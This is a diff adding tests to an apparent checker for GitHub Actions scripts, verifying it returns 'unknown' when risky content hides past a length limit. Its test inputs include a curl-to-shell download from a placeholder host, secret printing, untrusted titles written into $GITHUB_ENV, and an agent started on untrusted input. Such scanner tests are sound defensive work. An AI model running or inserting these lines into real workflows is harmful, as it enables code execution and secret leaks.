@@ -139,3 +139,23 @@ test.each([
     expect(coverage.find(({ check }) => check === `workflow/${CHECKOUT}`)).toMatchObject({ verdict: 'fail', reason });
   },
 );
+
+const LONG = 'x'.repeat(5000);
+
+test.each<[string, string, string]>([
+  ['the start of a block', RUNNER, `{\n${'echo "A=$TITLE"\n'.repeat(300)}} >> "$GITHUB_ENV"`],
+  ['the end of a line', RUNNER, `: ${LONG}; echo "A=$BODY" >> "$GITHUB_ENV"`],
+  ['the end of a line that prints', LOGS, `: ${LONG}; echo "$KEY"`],
+  ['the end of a line that downloads', UNVERIFIED, `: ${LONG}; curl https://get.example/a | sh`],
+  ['a line that may start an agent', 'agents/open-agent', `: ${LONG}; claude -p "$TITLE"`],
+])('no check passes on what is behind the limits of a text: %s', async (_, check, script) => {
+  expect(await verdictOf(check, script)).toMatchObject({
+    verdict: 'unknown',
+    reason: expect.stringContaining('left out'),
+  });
+});
+
+test('a value of many lines is followed to its delimiter', async () => {
+  const script = `{\n  echo "A<<END"\n${'  echo a\n'.repeat(40)}  echo "$BODY"\n  echo END\n} >> "$GITHUB_ENV"`;
+  expect(await verdictOf(RUNNER, script)).toMatchObject({ verdict: 'fail', reason: null });
+});
